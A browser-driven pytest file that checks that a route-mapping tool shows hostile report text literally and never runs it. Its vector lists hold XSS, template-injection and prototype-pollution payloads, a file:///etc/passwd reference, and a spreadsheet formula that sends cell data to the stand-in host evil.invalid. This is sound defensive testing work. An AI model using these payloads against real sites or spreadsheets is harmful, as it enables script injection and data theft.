"""What a report says is hostile: it is shown as it stands, and never run, whatever field it comes in by."""

from __future__ import annotations

import copy
import csv
import dataclasses
import io
import json
import re
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any

import pytest
from click.testing import CliRunner
from playwright.sync_api import Page, expect

import routes
from routes.cli import main

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

Collection = dict[str, Any]

# Each sets window.pwned, opens a dialog or asks for a file if anything runs it.
VECTORS = {
    "script": "</script><script>pwned=1;alert(1)</script>",
    "script in capitals and space": "</ScRiPt\t><SCRIPT>pwned=1</SCRIPT>",
    "comment and script": "<!--<script>pwned=1",
    "comment end": "--><script>pwned=1</script><!--",
    "style": "</style><script>pwned=1</script>",
    "title": "</title></textarea></noscript><img src=x onerror=pwned=1>",
    "image": "<img src=x onerror=pwned=1>",
    "attribute": "\"><svg/onload=pwned=1> ' onfocus=pwned=1 autofocus x='",
    "svg animation": "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "math": "<math><mtext><style><img src onerror=pwned=1></style></mtext></math>",
    "foreign object": "<foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></foreignObject>",
    "template literal": "${pwned=1}`${pwned=1}`",
    "mustache and jinja": "{{constructor.constructor('pwned=1')()}}{% raw %}{{7*7}}{% endraw %}{# #}",
    "replace patterns": "$& $` $' $1 $$ {policy} {who} {n}",
    "backslashes": "\\';pwned=1;//\\\\\";pwned=1;//\\",
    "unicode escapes": "\\u003cscript\\u003epwned=1\\u003c/script\\u003e \\x3cscript\\x3e",
    "entities": "&lt;script&gt;pwned=1&lt;/script&gt; &#60;img src=x onerror=pwned=1&#62;",
    "javascript link": "javascript:pwned=1//",
    "javascript link in disguise": "\x01java\nscript:pwned=1//%0Aalert(1)",
    "data link": "data:text/html,<script>opener.pwned=1;parent.pwned=1</script>",
    "vbscript and file": "file:///etc/passwd vbscript:pwned=1 blob:null/1",
    "network path": "//evil.invalid/x.js <link rel=prefetch href=//evil.invalid> <base href=//evil.invalid/>",
    "bidi controls": "\u202egnissel\u202c \u2066\u2067\u200f evil \u2069\u061c",
    "line separators": "one\u2028pwned=1\u2029two",
    "json": '"}],"features":[{"__proto__":{"pwned":1}}],"x":"',
    "prototype": "__proto__",
    "constructor": "constructor",
    "lone surrogate": "half \ud83d and \udc00 half",
    "nul and controls": "nul\x00 bell\x07 escape\x1b[31m delete\x7f c1\x9b fffe\ufffe",
    "long word": "W" * 5000,
    "zalgo": "a" + "\u0301\u0489" * 400,
    "css": "}*{background:url(//evil.invalid/x)} expression(pwned=1) </style>@import '//evil.invalid';",
    "css value": "red;background:url(javascript:pwned=1)",
    "url fragment": "#x=url(#soft)'),url(//evil.invalid/#y",
    "formula": '=HYPERLINK("http://evil.invalid/?"&A1;"x")+cmd|\' /C calc\'!A0',
    "cdata": "]]><script>pwned=1</script><![CDATA[<?xml-stylesheet href='//evil.invalid'?>",
}

# The page's own script keeps count of what it should never see.
WATCH = """
    window.violations = [];
    addEventListener("securitypolicyviolation", ({ violatedDirective, blockedURI }) =>
        violations.push(`${violatedDirective} ${blockedURI}`));
"""
# Elements that the page has none of, links that lead out of the web, and handlers written as attributes.
FOREIGN = """[
    ...[...document.querySelectorAll("#panel img, body > img, iframe, object, embed, base, link")],
    ...[...document.querySelectorAll("a[href]")].filter((a) => !/^(#|https?:)/.test(a.getAttribute("href"))),
    ...[...document.querySelectorAll("*")].filter((e) => e.getAttributeNames().some((n) => n.startsWith("on"))),
].map((element) => element.outerHTML)"""

NO_FILE_NAME = re.compile("[/\x00\ud800-\udfff]")

FRAGMENTS = [
    "<img src=x onerror=pwned=1>",
    "javascript:pwned=1",
    "%",
    "%E0%A4%A",
    "%00%ff",
    "__proto__=1&constructor=2&toString=3&hasOwnProperty=4",
    "__proto__[pwned]=1",
    '{"__proto__":{"pwned":1}}',
    "words=%3Cscript%3Epwned%3D1%3C/script%3E&select=route:%00&from=9999999-99-99&to=NaN&map=NaN/1e999/-1e999",
    "leg=-1&leg=1e99&place=__proto__&view=Infinity,NaN,NaN&z=1e308&hidden=" + "a," * 5000,
    "panel",  # the id of an element
    "a" * 100_000,
]


@dataclass
class Watched:
    """A page, and everything that it did which it should not."""

    page: Page
    wrong: list[str] = field(default_factory=list)

    def check(self) -> None:
        """Hold that nothing ran, nothing was asked for, nothing was complained of."""
        assert self.page.evaluate("[window.pwned, Object.prototype.pwned, {}.pwned].filter(Boolean)") == []
        assert self.page.evaluate("violations") == []
        assert self.page.evaluate(FOREIGN) == []
        assert self.wrong == []


@pytest.fixture
def watch(chromium: Browser) -> Iterator[Callable[..., Watched]]:
    contexts = []

    def open_file(path: Path, fragment: str = "") -> Watched:
        context = chromium.new_context(viewport={"width": 1280, "height": 800}, reduced_motion="reduce")
        contexts.append(context)
        context.add_init_script(WATCH)
        watched = Watched(context.new_page())

        def answer(route: Any, request: Any) -> None:
            if request.url.split("#")[0] == path.as_uri():
                route.continue_()
            else:
                watched.wrong.append(f"request: {request.url}")
                route.abort()

        def note(message: Any) -> None:
            if message.type in {"error", "warning"}:
                watched.wrong.append(f"console: {message.text}")

        context.route("**/*", answer)
        page = watched.page
        page.on("console", note)
        page.on("pageerror", lambda error: watched.wrong.append(f"error: {error}"))
        page.on("dialog", lambda dialog: (watched.wrong.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("popup", lambda popup: watched.wrong.append(f"popup: {popup.url}"))
        page.goto(path.as_uri() + (f"#{fragment}" if fragment else ""))
        return watched

    yield open_file
    for context in contexts:
        context.close()


def poisoned(sample: Collection, words: str) -> Collection:
    """Put the words wherever a findings file has words, keys included."""
    collection = copy.deepcopy(sample)
    keys = ("id", "title", "publisher", "url", "published", "language", "sha256", "text")
    collection["report"] = dict.fromkeys(keys, words)
    collection |= {"generator": words, "attribution": [words], "unplaced": [{"text": words}], words: words}
    told = ("quote", "name", "origin", "destination", "cargo", "attribution", "date", "why", "country", "kind")
    told += ("direction", "basis", "route", "title", "stroke", "report", words)
    for number, feature in enumerate(collection["features"]):
        lists = (
            "countries",
            "countries_inferred",
            "as_written",
            "passages",
            "alternatives",
            "unplaced",
            "roles",
            "routes",
        )
        feature["properties"] |= dict.fromkeys(told, words) | {key: [words] for key in lists}
        feature["properties"] |= {
            "place": f"{words}{number}",  # one place is drawn once
            "stops": [{"name": words, "role": words, "placed": True}] * 2,
            "further_quotes": [{"exact": words, "start": 0, "end": 1}],
        }
        feature["id"] = words
    return collection


def holds(page: Page, selector: str, words: str) -> bool:
    """Tell whether an element has these words, to the letter; half characters pass through JSON."""
    told = """([selector, words]) =>
        [...document.querySelectorAll(selector)].some((e) => e.textContent.includes(JSON.parse(words)))"""
    return bool(page.evaluate(told, [selector, json.dumps(words)]))


def use(page: Page, words: str, tmp_path: Path, collection: Collection) -> None:
    """Do with the page what readers do, and look for the words where they are to stand."""
    assert holds(page, "#panel blockquote", words)
    assert holds(page, "#panel .source dd", words)
    assert holds(page, "#panel .stops", words)
    assert holds(page, ".leaflet-control-attribution", words)
    page.locator("input[data-layer=denied]").check()
    page.get_by_role("tab").last.click()
    for mark in ("leg", "point", "area"):
        page.locator(f".findings g.{mark} .hit").first.dispatch_event("click", {"clientX": 600, "clientY": 400})
        assert holds(page, ".leaflet-popup-content", words)
        page.locator(f".findings g.{mark} .hit").first.dispatch_event("mousemove", {"clientX": 600, "clientY": 400})
        assert holds(page, ".leaflet-tooltip", words)
    page.locator("button.route").first.click()
    take_away(page, words, tmp_path, collection)


def take_away(page: Page, words: str, tmp_path: Path, collection: Collection | None = None) -> None:
    page.evaluate("() => { navigator.clipboard.writeText = () => Promise.reject(new Error('no')); }")
    page.locator("#away summary").click()
    files = {}
    for button in ("GeoJSON", "CSV", "PNG"):
        with page.expect_download() as waiting:
            page.get_by_role("button", name=button).click()
        assert re.fullmatch(
            r"routes[\w-]*\.(geojson|csv|png)",
            re.sub(r"[\u0300-\u036f\u0483-\u0489]", "", waiting.value.suggested_filename),
        )
        waiting.value.save_as(tmp_path / button)
        files[button] = (tmp_path / button).read_bytes()
    if collection:
        out = json.loads(files["GeoJSON"])
        assert {**out, "features": 0} == {**collection, "features": 0}
        told = [[feature["properties"] for feature in one["features"]] for one in (out, collection)]
        assert told[0] == told[1]
    rows = list(csv.DictReader(io.StringIO(files["CSV"].decode("utf-8-sig"), newline="")))
    assert all(not re.match(r"\s*[=+@-]", cell) for row in rows for cell in [*row, *row.values()])
    assert files["PNG"].startswith(b"\x89PNG")
    page.get_by_role("button", name="Copy citation").click()
    page.locator("dialog.away button").click()
    page.evaluate("dispatchEvent(new Event('beforeprint'))")
    assert holds(page, "#sheet q", words)
    assert page.evaluate("document.querySelector('#sheet').scrollWidth <= innerWidth")
    page.evaluate("dispatchEvent(new Event('afterprint'))")
    assert len(re.findall(rb"/Type\s*/Page\b", page.pdf(prefer_css_page_size=True))) == 1


@pytest.mark.parametrize("vector", VECTORS)
def test_a_hostile_file_is_shown_and_never_run(
    watch: Callable[..., Watched], sample: Collection, tmp_path: Path, vector: str
) -> None:
    words = VECTORS[vector]
    file = tmp_path / (NO_FILE_NAME.sub("", words)[:60] + ".geojson")
    collection = poisoned(sample, words)
    file.write_text(json.dumps(collection), "utf-8")
    page_file = tmp_path / "map.html"
    done = CliRunner().invoke(main, ["draw", str(file), "-o", str(page_file)])
    assert done.exit_code == 0, done.output
    watched = watch(page_file)
    use(watched.page, words, tmp_path, collection)
    watched.check()


def test_hostile_findings_are_shown_and_never_run(watch: Callable[..., Watched], tmp_path: Path) -> None:
    file = tmp_path / "\"><img src=x onerror=pwned=1>{{7*7}}${pwned=1}'.txt"
    telling = "The company ships press moulds by rail from Constanta to Vienna, a spokesman said."
    every = [vector for name, vector in VECTORS.items() if name != "lone surrogate"]  # no text file holds one
    file.write_text("\n\n".join([telling, *every]).replace("\x00", ""), "utf-8")  # with a NUL it would be a binary file
    report = routes.read_report(file, language="en")
    found = routes.find_routes(report, reader="plain")
    assert found.routes
    title = VECTORS["script"] + VECTORS["title"]
    report = dataclasses.replace(report, title=title, publisher=VECTORS["image"], url=VECTORS["javascript link"])
    drawn = [hostile_route(found, vector, i) for i, vector in enumerate(every)]
    routes.draw(dataclasses.replace(found, report=report, routes=tuple(drawn))).save(str(tmp_path / "map.html"))
    watched = watch(tmp_path / "map.html")
    for vector in every:
        assert holds(watched.page, "#panel li", vector)
    assert holds(watched.page, "#panel h1", title)
    take_away(watched.page, every[0], tmp_path)
    watched.check()


def hostile_route(found: routes.Findings, words: str, number: int) -> routes.Route:
    route = found.routes[0]
    quote = routes.Quote.of(words, 0, len(words))
    claim = dataclasses.replace(route.claim, quotes=(quote,), cargo=words, attribution=words, date=words)
    return dataclasses.replace(route, id=f"{number}{words}", claim=claim)


@pytest.mark.parametrize("fragment", FRAGMENTS, ids=range(len(FRAGMENTS)))
def test_a_hostile_address_does_nothing(
    watch: Callable[..., Watched], sample: Collection, tmp_path: Path, fragment: str
) -> None:
    routes.draw(sample).save(str(tmp_path / "map.html"))
    watched = watch(tmp_path / "map.html", fragment)
    page = watched.page
    expect(page.locator("#panel h1")).to_be_visible()
    page.evaluate("(fragment) => { location.hash = fragment; }", "x")
    page.evaluate("(fragment) => { location.hash = fragment; }", fragment)
    page.wait_for_timeout(50)
    assert page.evaluate("Number.isFinite(supplyRoutes.map.getZoom() + supplyRoutes.map.getCenter().lat)")
    if page.get_by_role("button", name="Reset").is_enabled():  # an address may well filter everything away
        page.get_by_role("button", name="Reset").click()
    page.locator("button.route").first.click()
    expect(page.locator("g.leg.chosen").first).to_be_attached()
    watched.check()


def test_there_are_enough_vectors() -> None:
    assert len(VECTORS) >= 20
